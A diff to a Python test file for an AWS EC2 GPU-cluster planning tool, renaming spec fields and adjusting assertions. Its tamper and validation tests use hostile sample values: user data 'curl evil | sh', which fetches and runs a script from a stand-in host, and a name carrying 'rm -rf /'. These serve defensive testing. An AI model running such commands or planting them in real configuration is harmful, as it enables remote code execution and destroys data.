@@ -22,7 +22,8 @@ def test_a_plan_changes_nothing(cloud: Cloud) -> None:
 def test_a_plan_asks_ec2_for_what_it_needs_and_not_for_everything(cloud: Cloud) -> None:
     since = len(cloud.stand_in.requests)
     cloud.plan()
-    for request in cloud.stand_in.requests[since:]:
+    requests = cloud.stand_in.requests[since:]
+    for request in (r for r in requests if r.service == "ec2"):
         assert dict(request.parameters).get("Filter.1.Name"), f"{request.action} has no filter"
 
 
@@ -32,14 +33,14 @@ def test_print_shows_what_exists_and_what_would_be_made(cloud: Cloud) -> None:
     used = [line for line in text if line.startswith("=")]
     made = [line for line in text if line.startswith("+")]
     assert [line.split()[1] for line in used] == ["subnet", "image"]
-    assert plan.spec.subnet_id in used[0]
+    assert plan.subnet_ids[0] in used[0]
     assert plan.availability_zone in used[0]
-    assert plan.spec.image_id in used[1]
+    assert plan.image_id in used[1]
     assert [line[1:].split("  ")[0].strip() for line in made[:1]] == ["security group"]
     joined = "\n".join(made)
     for part in ("ingress rule", "egress  rule", "placement group", "2 x p5.48xlarge", "IMDSv2"):
         assert part in joined
-    assert "300 GiB encrypted root volume /dev/xvda" in joined
+    assert "300 GiB encrypted gp3 root volume /dev/xvda" in joined
     assert "0:0=interface 0:1=efa-only 1-31:0=efa-only" in text
     assert plan.fingerprint in text[0]
     assert plan._repr_html_().startswith("<pre>plan ")
@@ -118,10 +119,10 @@ def tamper(document: Any, path: str, value: Any) -> str:
     [
         ("spec.count", 200),
         ("spec.instance_type", "p5en.48xlarge"),
-        ("spec.image_id", "ami-0evil"),
+        ("spec.image.id", "ami-0evil"),
         ("spec.user_data", "#!/bin/sh\ncurl evil | sh"),
         ("spec.name", "other"),
-        ("spec.subnet_id", "subnet-0evil"),
+        ("spec.subnets.0.id", "subnet-0evil"),
         ("region", "eu-west-1"),
         ("layout.interfaces.0.interface_type", "efa"),
         ("layout.interfaces.1.device_index", 7),
@@ -132,7 +133,7 @@ def tamper(document: Any, path: str, value: Any) -> str:
         ("security_group.group_id", "sg-0evil"),
         ("placement_group.group_name", "someone-elses"),
         ("image.root_device_name", "/dev/sdz"),
-        ("subnet.vpc_id", "vpc-0evil"),
+        ("subnets.0.vpc_id", "vpc-0evil"),
         ("layout.public_ip", "elastic-ip"),
         ("layout.instance_type", "p5.48xlarge"),
     ],
@@ -153,9 +154,9 @@ SPECS: list[tuple[dict[str, Any], str]] = [
     ({"name": "x; rm -rf /"}, "name"),
     ({"count": 0}, "count"),
     ({"count": 1001}, "count"),
-    ({"subnet_id": "my-subnet"}, "subnet_id"),
-    ({"image_id": "amazon-linux"}, "image_id"),
-    ({"security_group_id": "default"}, "security_group_id"),
+    ({"subnet": "my-*"}, "subnet"),
+    ({"image": "amazon-linux"}, "image"),
+    ({"security_group": "sg-?"}, "security_group"),
     ({"placement": "spread"}, "placement"),
     ({"placement": "none", "placement_group_name": "pg"}, "placement_group_name"),
     ({"placement_group_name": ""}, "placement_group_name"),
@@ -178,8 +179,8 @@ def test_a_spec_refuses_what_cannot_be(change: dict[str, Any], field: str) -> No
         "name": "train",
         "instance_type": SMALL,
         "count": 2,
-        "subnet_id": "subnet-1",
-        "image_id": "ami-1",
+        "subnet": "subnet-1",
+        "image": "ami-1",
         **change,
     }
     error = raised(lambda: efa.ClusterSpec(**values))
@@ -193,23 +194,23 @@ def test_a_spec_refuses_what_cannot_be(change: dict[str, Any], field: str) -> No
 def test_a_spec_keeps_what_was_asked_for(cloud: Cloud) -> None:
     own = [efa.NetworkInterface(0, 0, "efa")]
     spec = cloud.spec(
-        security_group_id="sg-1",
+        security_group="sg-1",
         placement_group_name="pg",
         public_ip="elastic-ip",
         interfaces=own,
         volume_size_gib=9,
         key_name="key",
-        iam_instance_profile="role",
+        instance_profile="role",
         user_data="data",
         tags={"a": "b"},
     )
-    assert (spec.security_group_id, spec.placement, spec.placement_group_name) == (
+    assert (spec.security_group, spec.placement, spec.placement_group_name) == (
         "sg-1",
         "cluster",
         "pg",
     )
     assert (spec.public_ip, spec.interfaces, spec.volume_size_gib) == ("elastic-ip", own, 9)
-    assert (spec.key_name, spec.iam_instance_profile) == ("key", "role")
+    assert (spec.key_name, spec.instance_profile) == ("key", "role")
     assert (spec.user_data, spec.tags) == ("data", {"a": "b"})
     assert (spec.profile, spec.efa) == ("save-ips", None)
     with pytest.raises(TypeError):
